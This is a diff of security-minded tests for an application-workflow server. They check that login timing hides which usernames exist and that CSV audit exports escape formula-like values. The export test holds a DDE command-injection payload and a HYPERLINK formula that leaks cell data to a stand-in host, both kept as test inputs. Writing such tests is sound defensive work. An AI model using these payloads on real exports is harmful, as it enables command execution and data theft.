@@ -1,4 +1,7 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { login } from '../../server/domain/sessions.js';
+import { verifyPassword } from '../../server/infra/passwords.js';
 import { approvalFor, decideAs, runStep, startAs, submit, todayInVietnam } from '../support/fixtures.js';
 import { settledFootprint } from '../support/observe.js';
 import { startStack, type TestStack } from '../support/stack.js';
@@ -432,6 +435,42 @@ describe('the applicant', () => {
   });
 });
 
+describe('login timing', () => {
+  /** Every hash the login checks a password against. */
+  function countingVerifier() {
+    const checked: string[] = [];
+    const verify = (plain: string, stored: string) => {
+      checked.push(stored);
+      return verifyPassword(plain, stored);
+    };
+    return { checked, verify };
+  }
+  const costOf = (hash: string) => hash.split('$').slice(0, 4).join('$');
+
+  it('does the same password-hash work for an unknown username as for a known one', async () => {
+    const known = countingVerifier();
+    const unknown = countingVerifier();
+    const attempt = (username: string, verify: ReturnType<typeof countingVerifier>['verify']) =>
+      login(stack.db.prisma, { username, password: 'doan-bua-2026' }, 60, verify);
+
+    await expect(attempt('bank.officer', known.verify)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
+    await expect(attempt('khong.ton.tai', unknown.verify)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
+
+    expect(known.checked).toHaveLength(1);
+    expect(unknown.checked).toHaveLength(1);
+    // A real scrypt hash with the accounts' cost parameters, not a malformed one that fails at once.
+    expect(costOf(unknown.checked[0]!)).toBe(costOf(known.checked[0]!));
+    expect(unknown.checked[0]).toMatch(/^scrypt\$\d+\$\d+\$\d+\$[A-Za-z0-9+/=]+\$[A-Za-z0-9+/=]{80,}$/);
+  });
+
+  it('never lets a password that matches the decoy in', async () => {
+    const always = () => Promise.resolve(true);
+    await expect(
+      login(stack.db.prisma, { username: 'khong.ton.tai', password: 'x' }, 60, always),
+    ).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
+  });
+});
+
 describe('the audit trail', () => {
   it('records every event with actor, role, scope and time, and exports it as CSV', async () => {
     const created = await submit(stack);
@@ -459,6 +498,27 @@ describe('the audit trail', () => {
         line.includes('STEP_DECIDED,group-vote,group.HOABINH-01,group_leader,group:HOABINH-01,approve'),
       ),
     ).toBe(true);
+  });
+
+  it('exports a reason that looks like a formula as text, never as a live formula', async () => {
+    const created = await submit(stack);
+    const vote = { ...approvalFor('group-vote'), reason: "@SUM(1+1)*cmd|' /C calc'!A0" };
+    await runStep(stack, created.id, 'group-vote', vote);
+    const link = '=HYPERLINK("http://evil.example/?x="&A1,"Xem hồ sơ")';
+    const withdrawn = await stack.api('POST', `/api/applications/${created.id}/withdraw`, {
+      body: { citizenId: created.citizenId, reason: link },
+    });
+    expect(withdrawn.status, JSON.stringify(withdrawn.body)).toBe(200);
+    await settledFootprint(stack, created.id);
+    const token = await stack.login('ward.HOABINH');
+
+    const csv = await stack.api('GET', `/api/applications/${created.id}/audit?format=csv`, { token });
+
+    const [header = [], ...rows] = parse((csv.body as string).replace(/^\uFEFF/, '')) as string[][];
+    const reasons = rows.map((row) => row[header.indexOf('reason')]).filter(Boolean);
+    expect(reasons).toEqual(expect.arrayContaining([`'${vote.reason}`, `'${link}`]));
+    const cells = rows.flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
   it('is append-only: the database refuses to change or delete audit rows', async () => {
